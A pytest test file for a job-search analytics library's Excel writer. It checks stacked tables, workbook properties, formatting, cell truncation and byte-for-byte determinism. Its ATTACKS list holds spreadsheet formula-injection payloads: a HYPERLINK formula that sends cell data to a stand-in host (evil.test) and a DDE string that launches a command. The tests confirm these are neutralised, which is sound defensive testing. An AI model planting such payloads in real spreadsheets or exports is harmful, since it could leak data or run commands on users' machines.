"""Sheets of stacked tables (write_xlsx_sheets) and document properties: every block read back
by two independent readers (openpyxl and python-calamine), located by its title row and
compared cell by cell with its frame."""

from __future__ import annotations

import datetime as dt
import math
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import python_calamine as pc
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jobsearch_analytics.io.writers import (
    EXCEL_CELL_LIMIT,
    TruncatedCellWarning,
    XlsxSheet,
    XlsxTable,
    neutralise,
    write_xlsx,
    write_xlsx_sheets,
)

ATTACKS = ['=HYPERLINK("http://evil.test?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"]
LONG = (
    "Every rate comes with its interval: with few applications the interval is wide, and the "
    "true rate can be anywhere in it, so a group of three says little. Groups of fewer than "
    "10 applications are marked small; see https://example.invalid/a-very-long-address-kept-whole"
)


def rates() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "source": ["LinkedIn", ATTACKS[0], "referral", "https://x.test"],
            "n": [40, 3, 12, 0],
            "rate": [0.075, 1.0, 0.25, float("nan")],
            "small": [False, True, False, True],
        }
    )


def weeks() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "week_start": pd.to_datetime(["2024-01-08", "2024-01-15", None]),
            "applications": [21, 0, 4],
            "note": [ATTACKS[1], "a much longer note than any other value in column D", None],
        },
        index=pd.Index(["W02", "W03", "W04"], name="week"),
    )


def sheets() -> list[XlsxSheet]:
    return [
        XlsxSheet(
            "Summary: 2024/25",
            (
                XlsxTable("Rates by source", rates(), {"rate": "0%"}),
                XlsxTable("Per week", weeks()),
                XlsxTable("Offers", pd.DataFrame({"company": [], "offer": []})),
            ),
            heading="Summary",
            lines=(LONG, ATTACKS[2]),
            notes=("A caveat in italics.",),
        ),
        XlsxSheet("Empty section", (), heading="Empty section", lines=("No table here.",)),
    ]


# -- independent readers --------------------------------------------------------------------


def grid_openpyxl(path: Path) -> dict[str, list[list[object]]]:
    wb = openpyxl.load_workbook(path)
    return {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets}


def grid_calamine(path: Path) -> dict[str, list[list[object]]]:
    wb = pc.CalamineWorkbook.from_path(str(path))
    out = {}
    for name in wb.sheet_names:
        rows = wb.get_sheet_by_name(name).to_python()
        out[name] = [[None if v == "" else v for v in r] for r in rows]
    return out


def same(got: object, want: object) -> bool:
    """One cell against one frame value, as a spreadsheet holds it."""
    if want is None or (isinstance(want, float) and math.isnan(want)) or want is pd.NaT:
        return got is None
    if isinstance(want, bool):
        return got is want
    if isinstance(want, pd.Timestamp | dt.datetime | dt.date):
        return got is not None and pd.Timestamp(got) == pd.Timestamp(want)
    if isinstance(want, int | float):
        # xlsxwriter stores 16 significant digits (Excel shows 15).
        number = isinstance(got, int | float) and not isinstance(got, bool)
        return number and got == pytest.approx(want, rel=1e-15, abs=0)
    return got == neutralise(str(want))


def block(grid: list[list[object]], title: str, frame: pd.DataFrame) -> int:
    """Find ``title`` in column A, check the header and every cell below it; return its row."""
    starts = [i for i, r in enumerate(grid) if r and r[0] == title]
    assert len(starts) == 1, (title, starts)
    top = starts[0]
    assert not any(v is not None for v in grid[top][1:])  # the title row holds the title only
    table = frame if isinstance(frame.index, pd.RangeIndex) else frame.reset_index()
    width = len(table.columns)
    assert grid[top + 1][:width] == [neutralise(str(c)) for c in table.columns]
    for i, values in enumerate(table.itertuples(index=False, name=None)):
        row = grid[top + 2 + i]
        for j, want in enumerate(values):
            want = want.item() if isinstance(want, np.generic) else want
            assert same(row[j], want), (title, i, table.columns[j], row[j], want)
        assert not any(v is not None for v in row[width:])
    end = top + 2 + len(table)
    assert end == len(grid) or not any(v is not None for v in grid[end])  # a blank row after
    return top


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> Path:
    return write_xlsx_sheets(
        sheets(),
        tmp_path_factory.mktemp("sheets") / "s.xlsx",
        formats={"rate": "0.0%", "applications": "#,##0"},
        properties={"title": "Job search report", "author": "jobsearch-analytics"},
    )


@pytest.mark.parametrize("reader", [grid_openpyxl, grid_calamine], ids=["openpyxl", "calamine"])
def test_blocks_hold_their_frames(written: Path, reader) -> None:
    grids = reader(written)
    assert list(grids) == ["Summary_ 2024_25", "Empty section"]
    grid = grids["Summary_ 2024_25"]
    assert grid[0][0] == "Summary"
    tops = [
        block(grid, "Rates by source", rates()),
        block(grid, "Per week", weeks()),
        block(grid, "Offers (no rows)", pd.DataFrame({"company": [], "offer": []})),
    ]
    assert tops == sorted(tops)  # stacked in the order given
    assert grids["Empty section"][0][0] == "Empty section"
    assert [r[0] for r in grids["Empty section"] if r and r[0]] == [
        "Empty section",
        "No table here.",
    ]


def test_each_paragraph_is_one_wrapped_cell(written: Path) -> None:
    grid = grid_openpyxl(written)["Summary_ 2024_25"]
    first = next(i for i, r in enumerate(grid) if r[0] == "Rates by source")
    paragraphs = [row[0] for row in grid[1:first] if row[0] is not None]
    assert all(v is None for row in grid[1:first] for v in row[1:])  # column A holds the text
    assert paragraphs == [LONG, neutralise(ATTACKS[2]), "A caveat in italics."]
    rows = [i for i, row in enumerate(grid[:first]) if row[0] is not None]
    assert rows == [0, 2, 4, 6]  # the heading, then a blank row after each paragraph

    ws = openpyxl.load_workbook(written)["Summary_ 2024_25"]
    spans = {str(r) for r in ws.merged_cells.ranges}
    widths = {
        c: ws.column_dimensions[c].width if c in ws.column_dimensions else 8.43 for c in "ABCDEFG"
    }
    for row in (3, 5, 7):  # 1-based rows of the three paragraphs
        cell = ws.cell(row, 1)
        assert cell.alignment.wrap_text and cell.alignment.vertical == "top"
        (span,) = [s for s in spans if s.startswith(f"A{row}:")]
        last = span.split(":")[1].rstrip("0123456789")
        assert sum(widths[c] for c in "ABCDEFG"[: "ABCDEFG".index(last) + 1]) >= 100
    assert ws.cell(7, 1).font.italic  # the note
    # The long paragraph's row is tall enough for its wrapped lines (a merged cell's row does
    # not grow by itself); a one-line paragraph keeps the default height.
    assert ws.row_dimensions[3].height >= 15 * (len(LONG) // 100 + 1)
    assert ws.row_dimensions[7].height is None


def test_styles_formats_widths_and_panes(written: Path) -> None:
    ws = openpyxl.load_workbook(written)["Summary_ 2024_25"]
    assert ws.freeze_panes is None  # headers are on several rows: nothing is frozen
    assert ws["A1"].font.b and ws["A1"].font.sz == 14
    rows = {c.value: c.row for c in ws["A"] if isinstance(c.value, str)}
    assert ws.cell(rows["A caveat in italics."], 1).font.i
    r = rows["Rates by source"]
    assert ws.cell(r, 1).font.b and all(c.font.b for c in ws[r + 1] if c.value)
    # The table's own format wins over the workbook-wide one; other columns keep theirs.
    assert [ws.cell(r + 2 + i, 3).number_format for i in range(3)] == ["0%"] * 3
    w = rows["Per week"]
    assert ws.cell(w + 2, 2).number_format == "yyyy-mm-dd"  # week_start: a real date
    assert isinstance(ws.cell(w + 2, 2).value, dt.datetime)
    assert ws.cell(w + 2, 3).number_format == "#,##0"
    # Widths fit the longest value of each column across both tables (capped at 60).
    longest_d = len("a much longer note than any other value in column D")
    assert ws.column_dimensions["D"].width >= longest_d  # week, week_start, applications, note
    assert ws.column_dimensions["A"].width >= len(neutralise(ATTACKS[0]))
    # ...but not the text lines, which spill into the empty cells beside them.
    assert ws.column_dimensions["A"].width <= 60


def test_no_formula_no_link_and_attacks_neutralised(written: Path, assert_no_live_parts) -> None:
    wb = openpyxl.load_workbook(written)
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f" and c.hyperlink is None, (ws.title, c.coordinate)
                if isinstance(c.value, str) and any(a in c.value for a in ATTACKS):
                    seen.append(c.value)
    assert sorted(seen) == sorted(neutralise(a) for a in ATTACKS[:3])
    assert_no_live_parts(written)


def test_properties_are_written_not_patched(tmp_path: Path) -> None:
    created = dt.datetime(2024, 6, 1, 12, 0, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    p = write_xlsx_sheets(
        sheets(),
        tmp_path / "p.xlsx",
        properties={"title": "T <&>", "author": "A", "company": "", "created": created},
    )
    props = openpyxl.load_workbook(p).properties
    assert (props.title, props.creator, props.lastModifiedBy) == ("T <&>", "A", "A")
    assert props.created == dt.datetime(2024, 6, 1, 10, 0)  # stored in UTC
    with zipfile.ZipFile(p) as z:
        app = z.read("docProps/app.xml").decode()
    assert "<Company></Company>" in app
    # Without properties nothing about the machine is written: author and company are empty.
    bare = write_xlsx({"S": rates()}, tmp_path / "bare.xlsx")
    with zipfile.ZipFile(bare) as z:
        core = z.read("docProps/core.xml").decode()
        app = z.read("docProps/app.xml").decode()
    assert "<dc:creator></dc:creator>" in core and "<Company></Company>" in app
    date_only = write_xlsx(
        {"S": rates()}, tmp_path / "d.xlsx", properties={"created": dt.date(2024, 1, 2)}
    )
    assert openpyxl.load_workbook(date_only).properties.created == dt.datetime(2024, 1, 2)


def test_bad_properties_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"unknown workbook property 'autor'.*author"):
        write_xlsx_sheets(sheets(), tmp_path / "x.xlsx", properties={"autor": "A"})
    with pytest.raises(ValueError, match="created"):
        write_xlsx({"S": rates()}, tmp_path / "x.xlsx", properties={"created": "2024-01-01"})
    assert not list(tmp_path.iterdir())


def test_same_input_same_bytes(tmp_path: Path) -> None:
    props = {"created": dt.datetime(2024, 6, 1)}
    a = write_xlsx_sheets(sheets(), tmp_path / "a.xlsx", properties=props).read_bytes()
    b = write_xlsx_sheets(sheets(), tmp_path / "b.xlsx", properties=props).read_bytes()
    assert a == b


def test_long_text_is_cut_with_its_cell(tmp_path: Path) -> None:
    second = XlsxTable("Second", pd.DataFrame({"a": [1, 2], "notes": ["ok", "y" * 40_000]}))
    sheet = XlsxSheet("S", (XlsxTable("First", pd.DataFrame({"a": [1]})), second))
    with pytest.warns(TruncatedCellWarning) as caught:
        p = write_xlsx_sheets([sheet], tmp_path / "long.xlsx")
    (w,) = caught
    ((name, ref, n),) = w.message.cells
    # First: title row 1, header 2, one row 3, blank 4; Second: title 5, header 6, rows 7-8.
    assert (name, ref, n) == ("S", "B8", 40_000)
    value = openpyxl.load_workbook(p)["S"][ref].value
    assert len(value) == EXCEL_CELL_LIMIT and value.endswith("40,000 characters in all]")


def test_inputs_not_mutated(tmp_path: Path) -> None:
    given_sheets = sheets()
    copies = [t.frame.copy(deep=True) for s in given_sheets for t in s.tables]
    write_xlsx_sheets(given_sheets, tmp_path / "m.xlsx")
    for frame, copy in zip([t.frame for s in given_sheets for t in s.tables], copies, strict=True):
        pd.testing.assert_frame_equal(frame, copy)


TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x00"),
    max_size=30,
).filter(lambda s: not s.startswith("Table"))  # a cell never reads as a block's title
FRAME = st.lists(
    st.tuples(TEXT, st.floats(-1e300, 1e300) | st.none(), st.booleans()), min_size=0, max_size=5
).map(lambda rows: pd.DataFrame(rows, columns=["text", "number", "flag"]))


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(frames=st.lists(FRAME, min_size=1, max_size=4))
def test_stacked_blocks_round_trip_property(tmp_path: Path, frames) -> None:
    # Titles are unique and never equal to a cell's text: "Table 1", "Table 2" ...
    tables = [XlsxTable(f"Table {k + 1}", f) for k, f in enumerate(frames)]
    p = write_xlsx_sheets([XlsxSheet("S", tables, lines=("text",))], tmp_path / "h.xlsx")
    grid = grid_calamine(p)["S"]
    width = max(len(r) for r in grid)
    grid = [r + [None] * (width - len(r)) for r in grid]
    for t in tables:
        title = t.title if len(t.frame) else f"{t.title} (no rows)"
        # An empty string is an empty cell.
        clean = t.frame.assign(text=[None if x == "" else x for x in t.frame["text"]])
        block(grid, title, clean.astype({"text": "object"}))
